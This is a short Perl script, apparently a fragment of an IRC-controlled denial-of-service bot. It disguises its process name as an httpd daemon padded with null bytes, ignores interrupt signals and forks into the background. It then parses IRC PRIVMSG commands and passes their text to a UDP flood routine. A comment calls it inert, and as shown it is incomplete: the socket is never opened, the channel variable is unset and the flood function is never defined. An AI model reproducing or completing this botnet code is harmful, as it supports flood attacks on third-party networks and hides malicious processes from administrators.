#!/usr/bin/perl
# Inert: it connects to nowhere, and what it would run is a word.
use IO::Socket;
my $name = "/usr/sbin/httpd";
$SIG{'INT'} = 'IGNORE';
$0 = "$name" . "\0" x 16;
exit if fork;
my $socket;
sub handle {
    my ($line) = @_;
    return unless $line =~ /^\:(.+?)\!(.+?) PRIVMSG (.+?) \:(.+)/;
    print $socket "JOIN $channel";
    udpflood($4);
}
